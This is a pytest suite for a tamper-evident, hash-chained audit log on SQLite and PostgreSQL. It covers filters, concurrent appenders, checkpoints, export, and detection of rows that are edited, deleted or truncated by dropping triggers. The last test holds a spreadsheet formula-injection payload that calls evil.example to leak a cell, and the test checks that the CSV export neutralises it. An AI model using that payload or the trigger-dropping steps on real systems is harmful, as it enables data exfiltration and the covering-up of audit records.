"""The audit log (审计日志, issue 13): every call shape, filters, one unbroken hash chain under
concurrent appenders (threads and processes), tamper evidence (an edited, deleted, rewritten or
cut-off row is named by verify) and the export round trip. Real store in a tmp workspace, on
SQLite and on PostgreSQL; the tampering goes to the database directly (sqlite3 on the file,
psycopg as the database's owner), as someone with the file or the owner's password would."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import json
import sqlite3
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import psycopg
import pytest

from catalog.sharing.audit import AuditLog, checkpoint_path
from schemas.principal import Principal
from schemas.roles import Role
from warehouse.settings import Settings
from warehouse.store import Store
from warehouse.store.sql.audit import GENESIS_HASH, digest
from warehouse.workspace import Workspace

pytestmark = pytest.mark.both_stores

ORG = "11330100MB0000001X"
ANALYST = Principal(login="zhao", org_code=ORG, roles=frozenset({Role.ANALYST}), via="token")
STEWARD = Principal(login="wang", org_code="DATAOFFICE", roles=frozenset({Role.STEWARD}))


class Clock:
    """A clock that moves one minute per call, from 2026-12-07 09:00."""

    def __init__(self) -> None:
        self.now = dt.datetime(2026, 12, 7, 9, 0)

    def __call__(self) -> dt.datetime:
        self.now += dt.timedelta(minutes=1)
        return self.now


@pytest.fixture
def store(workspace: Workspace) -> Iterator[Store]:
    opened = Store.open(workspace)
    yield opened
    opened.close()


@pytest.fixture
def log(store: Store, workspace: Workspace) -> AuditLog:
    return AuditLog(store, clock=Clock(), checkpoint=checkpoint_path(workspace.root))


def _fill(log: AuditLog, n: int = 10) -> None:
    for i in range(n):
        log.access(
            ANALYST if i % 2 else STEWARD,
            channel="rest" if i % 3 else "download",
            dataset=f"ds_{i % 3}",
            columns=["姓名", "金额"],
            rows=i,
        )


# Reset the highest seq handed out (SQLite's counter, PostgreSQL's audit_log_top) to 8.
RESET_TOP = {
    "sqlite": "UPDATE sqlite_sequence SET seq = 8 WHERE name = 'audit_log'",
    "postgresql": "UPDATE audit_log_top SET seq = 8",
}


def _tamper(workspace: Workspace, *statements: str) -> None:
    """What someone with write access to the file (or the database owner) can do: drop the
    triggers and edit."""
    url = Settings.load(workspace).database_url
    if url:
        with psycopg.connect(url, autocommit=True) as pg:
            pg.execute("DROP TRIGGER IF EXISTS audit_log_no_change ON audit_log")
            pg.execute("DROP TRIGGER IF EXISTS audit_log_no_truncate ON audit_log")
            for statement in statements:
                pg.execute(statement)  # type: ignore[arg-type]
        return
    con = sqlite3.connect(workspace.metadata_db, isolation_level=None)
    try:
        con.execute("DROP TRIGGER IF EXISTS audit_log_no_update")
        con.execute("DROP TRIGGER IF EXISTS audit_log_no_delete")
        for statement in statements:
            con.execute(statement)
    finally:
        con.close()


# --- call shapes --------------------------------------------------------------------------
def test_access_decision_event_record_every_field(log: AuditLog):
    seq = log.access(
        ANALYST,
        channel="download",
        dataset="dibao_members",
        columns=["姓名", "身份证号"],
        rows=42,
        grant_id=7,
        purpose="低保复核",
        entry_code="330100-00001",
        remote="10.0.0.8",
        detail={"format": "csv"},
    )
    assert seq == 1
    assert (
        log.decision(
            STEWARD,
            action="approve",
            application_id=3,
            grant_id=7,
            entry_code="330100-00001",
            dataset="dibao_members",
            reason="符合用途",
            detail={"columns": ["姓名"]},
        )
        == 2
    )
    assert log.decision(STEWARD, action="refuse") == 3
    assert log.event(ANALYST, "login", remote="10.0.0.8", via="password") == 4
    assert log.event(Principal.anonymous(), "login_failed", login="nobody") == 5
    assert log.access(ANALYST, channel="sql", dataset="x", columns=[], rows=0) == 6

    newest_first = log.entries()
    assert [row["seq"] for row in newest_first] == [6, 5, 4, 3, 2, 1]
    access = newest_first[-1]
    assert access == {
        **access,
        "at": "2026-12-07T09:01:00",
        "actor": "zhao",
        "actor_org": ORG,
        "action": "access",
        "channel": "download",
        "dataset": "dibao_members",
        "entry_code": "330100-00001",
        "columns": ["姓名", "身份证号"],
        "rows": 42,
        "grant_id": 7,
        "purpose": "低保复核",
        "remote": "10.0.0.8",
        "detail": {"format": "csv"},
        "prev_hash": GENESIS_HASH,
    }
    decision = newest_first[-2]
    assert decision["actor"] == "wang"
    assert decision["action"] == "approve"
    assert decision["grant_id"] == 7
    assert decision["dataset"] == "dibao_members"
    assert decision["detail"] == {
        "kind": "decision",
        "application_id": 3,
        "reason": "符合用途",
        "columns": ["姓名"],
    }
    assert newest_first[-3]["detail"] == {"kind": "decision"}  # no None values kept
    login = newest_first[-4]
    assert (login["action"], login["remote"], login["detail"]) == (
        "login",
        "10.0.0.8",
        {"via": "password"},
    )
    failed = newest_first[-5]
    assert failed["actor"] == "anonymous" or failed["actor"] == Principal.anonymous().actor
    assert failed["actor_org"] is None
    assert failed["detail"] == {"login": "nobody"}
    assert newest_first[0]["columns"] == []
    assert newest_first[0]["rows"] == 0
    # Each row chains to the one before.
    for older, newer in zip(newest_first[1:], newest_first, strict=False):
        assert newer["prev_hash"] == older["hash"]
    assert log.verify().ok


def test_unknown_channel_and_missing_fields_are_refused(log: AuditLog, store: Store):
    with pytest.raises(ValueError, match="channel"):
        log.access(ANALYST, channel="email", dataset="x", columns=[], rows=1)
    with pytest.raises(ValueError, match="channel"):
        log.event(ANALYST, "audit_view", channel="fax")
    with pytest.raises(ValueError, match="lacks"):
        store.audit.append({"at": "2026-12-07T09:00:00", "actor": "x"})
    with pytest.raises(ValueError, match="unknown audit filters"):
        log.entries(colour="red")
    assert log.entries() == []


def test_the_table_refuses_update_and_delete(
    log: AuditLog, store: Store, workspace: Workspace, store_dialect: str
):
    _fill(log, 2)
    before = store.audit.query(limit=None)
    url = Settings.load(workspace).database_url
    if store_dialect == "postgresql":
        assert url
        with psycopg.connect(url, autocommit=True) as pg:
            for statement in (
                "UPDATE audit_log SET rows = 0 WHERE seq = 1",
                "DELETE FROM audit_log WHERE seq = 1",
                "TRUNCATE audit_log",
                "TRUNCATE audit_log CASCADE",
            ):
                with pytest.raises(psycopg.errors.RaiseException, match="append-only"):
                    pg.execute(statement)  # type: ignore[arg-type]
    else:
        assert not url
        con = sqlite3.connect(workspace.metadata_db)
        try:
            with pytest.raises(sqlite3.IntegrityError, match="append-only"):
                con.execute("UPDATE audit_log SET rows = 0 WHERE seq = 1")
            with pytest.raises(sqlite3.IntegrityError, match="append-only"):
                con.execute("DELETE FROM audit_log WHERE seq = 1")
        finally:
            con.close()
    assert store.audit.query(limit=None) == before
    assert len(before) == 2
    assert log.verify().ok


# --- filters ------------------------------------------------------------------------------
def test_filters_paging_and_counts(log: AuditLog):
    _fill(log, 12)  # at 09:01 … 09:12
    log.event(STEWARD, "audit_view", channel="cli")
    assert log.count() == 13
    assert {row["actor"] for row in log.entries(actor="zhao")} == {"zhao"}
    assert log.count(actor="zhao") == 6
    assert log.count(dataset="ds_0") == 4
    assert log.count(channel="download") == 4
    assert log.count(channel="cli") == 1
    assert log.count(action="access") == 12
    assert log.count(action="audit_view", actor="wang") == 1
    assert log.count(actor_org=ORG) == 6
    assert log.count(actor="zhao", dataset="ds_1", channel="rest") == 2  # i = 1, 7
    assert log.count(since="2026-12-07T09:05:00", until="2026-12-07T09:07:00") == 3
    assert log.count(since="2026-12-07") == 13
    assert log.count(until="2026-12-07") == 13  # a date alone: the whole day
    assert log.count(until="2026-12-06") == 0
    assert log.count(since="2026-12-08") == 0
    page = log.entries(limit=5, offset=5)
    assert [row["seq"] for row in page] == [8, 7, 6, 5, 4]
    assert [row["seq"] for row in log.entries(limit=3, newest_first=False)] == [1, 2, 3]
    assert len(log.entries(limit=None)) == 13
    assert log.entries(actor="", dataset=None) == log.entries()  # empty filters ignored


# --- one chain under concurrent appenders ---------------------------------------------------
def test_threads_keep_one_chain(store: Store):
    log = AuditLog(store)
    errors: list[BaseException] = []

    def work(n: int) -> None:
        try:
            for i in range(50):
                log.access(ANALYST, channel="rest", dataset=f"t{n}", columns=["a"], rows=i)
        except BaseException as error:  # pragma: no cover - reported below
            errors.append(error)

    threads = [threading.Thread(target=work, args=(n,)) for n in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert not errors
    check = log.verify()
    assert check.ok, check.problems
    assert check.checked == 400
    assert [row["seq"] for row in store.audit.iterate()] == list(range(1, 401))


APPENDER = """
import sys
from pathlib import Path
from catalog.sharing.audit import AuditLog
from schemas.principal import Principal
from warehouse.store import Store
from warehouse.workspace import Workspace

store = Store.open(Workspace(Path(sys.argv[1])))
log = AuditLog(store)
who = Principal(login="proc" + sys.argv[2], org_code="ORG")
print("ready", flush=True)
sys.stdin.readline()  # start together
for i in range(int(sys.argv[3])):
    log.access(who, channel="sql", dataset="d" + sys.argv[2], columns=["x"], rows=i)
store.close()
"""


@pytest.mark.slow
def test_processes_keep_one_chain(store: Store, workspace: Workspace):
    procs = [
        subprocess.Popen(
            [sys.executable, "-c", APPENDER, str(workspace.root), str(n), "200"],
            stdin=subprocess.PIPE,
            stdout=subprocess.PIPE,
            text=True,
        )
        for n in range(4)
    ]
    for proc in procs:  # every one has imported and opened the store
        assert proc.stdout is not None
        assert proc.stdout.readline().strip() == "ready"
    for proc in procs:
        assert proc.stdin is not None
        proc.stdin.write("go\n")
        proc.stdin.flush()
    for proc in procs:
        assert proc.wait(timeout=120) == 0
    log = AuditLog(store)
    check = log.verify()
    assert check.ok, check.problems
    assert check.checked == 800
    for n in range(4):
        assert log.count(actor=f"proc{n}") == 200
    # The appenders really interleaved (not one after another).
    actors = [row["actor"] for row in store.audit.iterate()]
    switches = sum(1 for a, b in zip(actors, actors[1:], strict=False) if a != b)
    assert switches > 3


# --- tamper evidence ----------------------------------------------------------------------
def test_an_edited_row_is_named(log: AuditLog, workspace: Workspace):
    _fill(log)
    assert log.verify().ok
    _tamper(workspace, "UPDATE audit_log SET rows = 0, actor = 'someone' WHERE seq = 5")
    check = log.verify()
    assert not check.ok
    assert check.first_broken == 5
    assert check.checked == 10
    assert check.problems == ["seq 5: 内容被修改 (hash mismatch) — 哈希与内容不符"]


def test_a_deleted_middle_row_is_detected(log: AuditLog, workspace: Workspace):
    _fill(log)
    _tamper(workspace, "DELETE FROM audit_log WHERE seq = 4")
    check = log.verify()
    assert not check.ok
    assert check.first_broken == 5
    assert check.checked == 9
    assert "seq 5: 记录缺失 (rows deleted) — seq 4 不存在" in check.problems
    assert any("prev_hash mismatch" in p for p in check.problems)


def test_a_deleted_first_row_is_detected(log: AuditLog, workspace: Workspace):
    _fill(log, 3)
    _tamper(workspace, "DELETE FROM audit_log WHERE seq = 1")
    check = log.verify()
    assert check.first_broken == 2
    assert "seq 2: 记录缺失 (rows deleted) — seq 1 不存在" in check.problems


def test_a_rewritten_row_with_its_hash_recomputed_breaks_the_next_link(
    log: AuditLog, store: Store, workspace: Workspace
):
    _fill(log)
    row = store.audit.get(6)
    assert row is not None
    row["rows"] = 0
    row["hash"] = digest(row)
    _tamper(workspace, f"UPDATE audit_log SET rows = 0, hash = '{row['hash']}' WHERE seq = 6")
    check = log.verify()
    assert not check.ok
    assert check.first_broken == 7
    assert check.problems[0].startswith("seq 7: 链接断开 (prev_hash mismatch)")


def test_reordered_rows_are_detected(log: AuditLog, workspace: Workspace):
    _fill(log, 5)
    # Swap the content of seq 2 and 3, hashes and all (seq numbers stay).
    columns = (
        "at, actor, actor_org, action, channel, dataset, columns, rows, detail, prev_hash, hash"
    )
    _tamper(
        workspace,
        f"CREATE TEMP TABLE t AS SELECT seq, {columns} FROM audit_log WHERE seq IN (2, 3)",
        *[
            f"UPDATE audit_log SET {c} = (SELECT {c} FROM t WHERE t.seq = 5 - audit_log.seq) "
            "WHERE seq IN (2, 3)"
            for c in columns.split(", ")
        ],
    )
    check = log.verify()
    assert not check.ok
    assert check.first_broken == 2


def test_a_cut_tail_is_detected_by_the_seq_handed_out_and_by_the_checkpoint(
    log: AuditLog, workspace: Workspace, store_dialect: str
):
    _fill(log)
    first = log.verify()
    assert first.ok
    assert first.last_seq == 10
    saved = json.loads(checkpoint_path(workspace.root).read_text(encoding="utf-8"))
    assert saved["seq"] == 10
    assert saved["hash"] == first.last_hash
    assert saved["count"] == 10

    _tamper(workspace, "DELETE FROM audit_log WHERE seq > 8")
    check = log.verify()
    assert not check.ok
    assert check.first_broken == 9
    assert check.problems[0].startswith("seq 9: 末尾记录缺失 (tail truncated)")
    # Even with the store's counter reset, the checkpoint still tells; and it is not overwritten.
    _tamper(workspace, RESET_TOP[store_dialect])
    check = log.verify()
    assert not check.ok
    assert any("检查点记录到 seq 10" in p for p in check.problems)
    saved_after = json.loads(checkpoint_path(workspace.root).read_text(encoding="utf-8"))
    assert saved_after["seq"] == 10


def test_a_new_row_after_a_cut_tail_shows_a_gap(store: Store, workspace: Workspace):
    log = AuditLog(store, clock=Clock())  # no checkpoint file
    _fill(log, 5)
    _tamper(workspace, "DELETE FROM audit_log WHERE seq = 5")
    assert log.event(STEWARD, "login") == 6
    check = log.verify()
    assert not check.ok
    assert check.first_broken == 6
    assert "seq 6: 记录缺失 (rows deleted) — seq 5 不存在" in check.problems


def test_an_append_rolled_back_leaves_no_gap(store: Store):
    """An append inside a write that fails goes with it, its seq too: the next append takes
    the same seq and the chain verifies (no false 'rows deleted')."""
    log = AuditLog(store, clock=Clock())
    _fill(log, 2)

    def failing_use_case() -> None:
        with store.transaction():
            assert log.event(STEWARD, "login") == 3
            raise RuntimeError("the use case failed")

    with pytest.raises(RuntimeError, match="the use case failed"):
        failing_use_case()
    assert store.audit.top_seq() == 2
    assert log.event(STEWARD, "logout") == 3
    assert [row["action"] for row in store.audit.iterate()] == ["access", "access", "logout"]
    assert store.audit.top_seq() == 3
    assert log.verify().ok


def test_a_rewritten_tail_is_seen_against_the_checkpoint(
    log: AuditLog, store: Store, workspace: Workspace
):
    _fill(log, 4)
    assert log.verify().ok
    row = store.audit.get(4)
    assert row is not None
    row["actor"] = "nobody"
    row["hash"] = digest(row)
    _tamper(
        workspace,
        f"UPDATE audit_log SET actor = 'nobody', hash = '{row['hash']}' WHERE seq = 4",
    )
    check = log.verify()
    assert not check.ok
    assert check.first_broken == 4
    assert "checkpoint mismatch" in check.problems[0]


def test_an_empty_log_verifies(log: AuditLog, workspace: Workspace):
    check = log.verify()
    assert check.ok
    assert check.checked == 0
    assert check.last_seq is None
    assert not checkpoint_path(workspace.root).exists()


# --- export -------------------------------------------------------------------------------
def _chain_sum(hashes: list[str]) -> str:
    return hashlib.sha256("".join(hashes).encode()).hexdigest()


def test_export_round_trip(log: AuditLog, store: Store, tmp_path: Path):
    _fill(log, 30)
    log.event(STEWARD, "login", remote="::1", detail={"说明": '中文, "引号"\n换行'})
    stored = list(store.audit.iterate())
    want = _chain_sum([row["hash"] for row in stored])

    assert log.export(tmp_path / "a.jsonl", "jsonl") == 31
    lines = (tmp_path / "a.jsonl").read_text(encoding="utf-8").splitlines()
    rows = [json.loads(line) for line in lines]
    assert rows == stored
    assert all(digest(row) == row["hash"] for row in rows)  # the copy verifies on its own
    assert _chain_sum([row["hash"] for row in rows]) == want

    assert log.export(tmp_path / "a.csv", "csv") == 31
    raw = (tmp_path / "a.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as handle:
        table = list(csv.DictReader(handle))
    assert len(table) == 31
    assert _chain_sum([row["hash"] for row in table]) == want
    assert json.loads(table[-1]["detail"]) == {"说明": '中文, "引号"\n换行'}
    assert table[0]["prev_hash"] == GENESIS_HASH
    assert table[0]["seq"] == "1"

    assert log.export(tmp_path / "zhao.csv", "csv", actor="zhao", channel="rest") == len(
        [r for r in stored if r["actor"] == "zhao" and r["channel"] == "rest"]
    )
    with pytest.raises(ValueError, match="format"):
        log.export(tmp_path / "a.xml", "xml")  # type: ignore[arg-type]


def test_an_unreadable_checkpoint_is_a_problem_until_removed(log: AuditLog, workspace: Workspace):
    _fill(log, 3)
    assert log.verify().ok
    checkpoint_path(workspace.root).write_text("{not json", encoding="utf-8")
    check = log.verify()
    assert not check.ok
    assert "checkpoint unreadable" in check.problems[0]
    checkpoint_path(workspace.root).unlink()
    assert log.verify().ok
    assert json.loads(checkpoint_path(workspace.root).read_text(encoding="utf-8"))["seq"] == 3


def test_event_fields_fill_columns_and_detail(log: AuditLog):
    seq = log.event(
        STEWARD,
        "audit_export",
        channel="cli",
        rows=12,
        dataset="dibao",
        detail={"format": "csv"},
        path="/tmp/x.csv",
        skipped=None,
    )
    row = log.entries(limit=1)[0]
    assert row["seq"] == seq
    assert (row["channel"], row["rows"], row["dataset"]) == ("cli", 12, "dibao")
    assert row["detail"] == {"format": "csv", "path": "/tmp/x.csv"}


def test_unknown_actions_and_channels_are_refused_naming_the_valid_ones():
    from catalog.sharing.audit import ACTIONS, CHANNELS, check_filters
    from schemas.errors import InvalidInput

    for action in ("access", "grant", "revoke", "login", "login_failed", "logout", "audit_view"):
        assert action in ACTIONS
    assert {a for a in ACTIONS if a.startswith("application_")} == {
        f"application_{step}"
        for step in ("apply", "forward", "approve", "refuse", "escalate", "settle", "withdraw")
    }
    check_filters(action="application_settle", channel="sql")
    check_filters()
    with pytest.raises(InvalidInput) as bad:
        check_filters(action="bogus")
    assert "bogus" in bad.value.message
    assert "application_apply" in bad.value.message
    assert bad.value.exit_code == 2
    with pytest.raises(InvalidInput) as channel:
        check_filters(channel="email")
    assert all(name in channel.value.message for name in CHANNELS)


def test_the_csv_export_defuses_spreadsheet_formulas(log: AuditLog, tmp_path: Path):
    """A purpose an applicant typed reaches the data office's spreadsheet through the CSV: text
    starting like a formula gets a leading ' there; the JSONL keeps it verbatim."""
    evil = '=HYPERLINK("http://evil.example/?x="&B2,"详情")'
    log.access(ANALYST, channel="rest", dataset="dibao", columns=["a"], rows=1, purpose=evil)
    log.access(ANALYST, channel="rest", dataset="dibao", columns=["a"], rows=-1, purpose="@SUM")
    log.export(tmp_path / "a.csv", "csv")
    with (tmp_path / "a.csv").open(encoding="utf-8-sig", newline="") as handle:
        table = list(csv.DictReader(handle))
    assert [row["purpose"] for row in table] == ["'" + evil, "'@SUM"]
    assert table[1]["rows"] == "-1"  # a number is a number, not text to defuse
    log.export(tmp_path / "a.jsonl", "jsonl")
    rows = [json.loads(line) for line in (tmp_path / "a.jsonl").read_text().splitlines()]
    assert rows[0]["purpose"] == evil
